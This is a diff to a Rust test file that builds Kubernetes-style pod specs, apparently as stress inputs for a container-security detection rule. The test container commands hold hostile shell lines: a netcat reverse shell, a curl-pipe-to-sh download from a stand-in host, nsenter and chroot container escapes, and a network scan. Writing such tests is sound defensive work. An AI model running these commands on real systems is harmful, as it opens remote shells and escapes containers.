@@ -126,6 +126,12 @@ fn pods(size: usize) -> Vec<(&'static str, Vec<u8>)> {
     let container =
         json!({"name": "c", "env": env, "command": ["sh", "-c", "nc -e /bin/sh $(A9) $A99 $(A999)"]});
     all.push(("an environment that grows", file(json!({"containers": [container]}))));
+    // Whatever a rule shows is searched for values of the environment.
+    let hits = "nc -e sh 192.0.2.1 1;curl http://192.0.2.1/x|sh;nsenter -t 1 -m sh;nmap 10.0.0.0/8;chroot /host sh\n";
+    let shown = hits.replace(';', &format!(" {};", "y ".repeat(1500)));
+    let env = many(|number| json!({"name": format!("A{number}"), "value": format!("y y y {number}")}));
+    let container = json!({"name": "c", "env": env[..env.len() / 2], "command": ["sh", "-c", shown]});
+    all.push(("an environment that is searched", file(json!({"containers": [container]}))));
     let wrong = many(|number| json!([number]));
     all.push(("many wrong values", file(json!({"containers": wrong, "tolerations": 1}))));
     all
